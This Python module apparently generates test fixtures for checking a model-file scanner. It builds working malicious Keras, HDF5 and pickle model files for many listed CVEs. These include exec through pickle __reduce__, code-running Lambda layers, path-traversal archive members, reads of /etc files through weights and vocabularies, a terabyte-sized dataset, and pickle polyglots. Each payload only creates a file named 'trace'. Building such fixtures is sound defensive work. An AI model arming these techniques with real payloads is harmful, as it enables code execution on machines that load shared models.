"""The attack files: one of each known kind, harmless: what they run makes a file ``trace``.

Each is written from a description of the weakness; none is copied from anywhere.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import keras

CONFIG, WEIGHTS = "config.json", "model.weights.h5"
Members = dict[str, bytes]


@dataclass(frozen=True)
class Attack:
    """A model file that does harm when it is loaded.

    Attributes:
        known_as: CVE numbers or a name.
        what: What the file does, in a few words.
        write: Writes it into a folder.
    """

    known_as: str
    what: str
    write: Callable[[Path], Path]


class _Trace:
    def __reduce__(self) -> tuple[Any, ...]:
        return exec, ("open('trace', 'w').close()",)


def _payload(x: Any) -> Any:
    open("trace", "w").close()  # noqa: PTH123 - it has to stand alone
    return x


def _network(*more: keras.layers.Layer) -> keras.Model:
    layers = keras.layers
    parts = [keras.Input((12, 10, 3)), *more, layers.Flatten()]
    return keras.Sequential([*parts, layers.Dense(5, "softmax")])


def _saved(suffix: str, *more: keras.layers.Layer) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / f"network{suffix}"
        with warnings.catch_warnings():  # Keras' own use of NumPy, its opinion of .h5
            warnings.simplefilter("ignore")
            _network(*more).save(path)
        return path

    return write


def _lambda() -> keras.layers.Layer:
    return keras.layers.Lambda(_payload, output_shape=(12, 10, 3))


def _archive(change: Callable[[Members], object]) -> Callable[[Path], Path]:
    """A ``.keras`` archive with other members."""

    def write(folder: Path) -> Path:
        path = _saved(".keras")(folder)
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        change(members)
        with zipfile.ZipFile(path, "w") as archive:
            for name, content in members.items():
                archive.writestr(name, content)
        return path

    return write


def _layer(module: str, name: str, config: dict[str, Any]) -> Callable[[Path], Path]:
    """A ``.keras`` archive with one more layer, of any class of any module."""

    def change(members: Members) -> None:
        described = json.loads(members[CONFIG])
        layer = {"module": module, "class_name": name, "config": config,
                 "registered_name": None}  # fmt: skip
        described["config"]["layers"].insert(1, layer)
        members[CONFIG] = json.dumps(described).encode()

    return _archive(change)


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name,
            "registered_name": "function"}  # fmt: skip


def _calls(module: str, name: str, **arguments: Any) -> Callable[[Path], Path]:
    config = {"name": "calls", "function": _function(module, name)}
    return _layer("keras.layers", "Lambda", {**config, "arguments": arguments})


def _compiled(members: Members) -> None:
    described = json.loads(members[CONFIG])
    described["compile_config"] = {
        "optimizer": "adam",
        "loss": _function("os", "abort"),
    }
    members[CONFIG] = json.dumps(described).encode()


def _nested(folder: Path) -> Path:
    inner = keras.Sequential([keras.Input((12, 10, 3)), _lambda()])
    return _saved(".keras", inner)(folder)


def _weights(change: Callable[[h5py.File, str], object]) -> Callable[[Path], Path]:
    """A ``.keras`` archive with another dataset for the kernel."""

    def edit(members: Members) -> None:
        content = io.BytesIO(members[WEIGHTS])
        with h5py.File(content, "r+") as file:
            names: list[str] = []
            file.visititems(
                lambda name, x: (
                    names.append(name) if isinstance(x, h5py.Dataset) else None
                )
            )
            del file[names[0]]
            change(file, names[0])
        members[WEIGHTS] = content.getvalue()

    return _archive(edit)


def _external(file: h5py.File, name: str) -> None:
    file.create_dataset(name, (64, 5), "f4", external=[("/etc/hostname", 0, 1280)])


def _virtual(file: h5py.File, name: str) -> None:
    layout = h5py.VirtualLayout((360, 5), "f4")
    layout[:] = h5py.VirtualSource("/etc/secret.h5", "kernel", (360, 5))
    file.create_virtual_dataset(name, layout)


def _huge(file: h5py.File, name: str) -> None:
    file.create_dataset(name, (1 << 40,), "f4", chunks=(1 << 20,), compression="gzip")


def _named(name: str, content: Callable[[], bytes]) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        (folder / name).write_bytes(content())
        return folder / name

    return write


def _pickled() -> bytes:
    return pickle.dumps(_Trace())


def _broken_pickle() -> bytes:
    return _pickled()[:-1] + b"\xff broken behind the payload"


def _zipped_pickle() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("archive/data.pkl", _pickled())
    return content.getvalue()


def _polyglot(folder: Path) -> Path:
    """HDF5 with a user block in front that is a pickle."""
    path = _saved(".h5")(folder)
    block = _pickled().ljust(512, b"\0")
    with (
        h5py.File(path) as old,
        h5py.File(folder / "new.h5", "w", userblock_size=512) as new,
    ):
        for name in old:
            old.copy(name, new)
        for name, value in old.attrs.items():
            new.attrs[name] = value
    content = (folder / "new.h5").read_bytes()
    (folder / "new.h5").unlink()
    path.write_bytes(block + content[512:])
    return path


def _twice(folder: Path) -> Path:
    """Two descriptions of the same name: a scanner reads one, a loader the other."""
    path = _saved(".keras")(folder)
    with zipfile.ZipFile(_nested(folder.parent)) as other:
        second = other.read(CONFIG)
    (folder.parent / "network.keras").unlink()
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")  # that it is there twice
        archive.writestr(CONFIG, second)
    return path


_TORCH = base64.b64encode(_pickled()).decode()
ATTACKS = (
    Attack("CVE-2024-3660, .keras", "code of a Lambda layer", _saved(".keras", _lambda())),
    Attack("CVE-2025-9905, .h5", "the same in HDF5, where safe_mode is passed over",
           _saved(".h5", _lambda())),
    Attack("CVE-2026-12481", "a Lambda in a model within the model", _nested),
    Attack("CVE-2025-1550", "a class of any module as a layer",
           _layer("os", "abort", {})),
    Attack("CVE-2025-8747", "a function of Keras that writes files, as a Lambda",
           _calls("keras.utils", "get_file", origin="file:///etc/hostname", fname="trace")),
    Attack("CVE-2025-9906", "a function of Keras that switches safe_mode off",
           _calls("keras.config", "enable_unsafe_deserialization")),
    Attack("CVE-2025-12058", "a vocabulary that is read from any file",
           _layer("keras.layers", "StringLookup", {"vocabulary": "/etc/hostname"})),
    Attack("CVE-2025-12060", "a member of the archive that leads out of it",
           _archive(lambda members: members.update({"../trace": b""}))),
    Attack("CVE-2025-49655", "a module of Torch, pickled",
           _layer("keras.layers", "TorchModuleWrapper", {"module": _TORCH})),
    Attack("CVE-2026-1462", "a SavedModel from any place, as a layer",
           _layer("keras.layers", "TFSMLayer", {"filepath": "/etc"})),
    Attack("CVE-2026-1669", "weights in an external file of the machine",
           _weights(_external)),
    Attack("CVE-2026-0897, CVE-2026-12570", "weights that declare terabytes",
           _weights(_huge)),
    Attack("virtual dataset", "weights out of another HDF5 file", _weights(_virtual)),
    Attack("compile_config", "a function of any module as the loss", _archive(_compiled)),
    Attack("pickle named .h5", "a pickle for whoever goes by the content",
           _named("network.h5", _pickled)),
    Attack("nullifAI", "a pickle that breaks behind its payload",
           _named("network.keras", _broken_pickle)),
    Attack("Torch archive", "a zipped pickle named .keras",
           _named("network.keras", _zipped_pickle)),
    Attack("polyglot", "HDF5 behind a user block that is a pickle", _polyglot),
    Attack("twice in an archive", "two descriptions of one name", _twice),
)  # fmt: skip
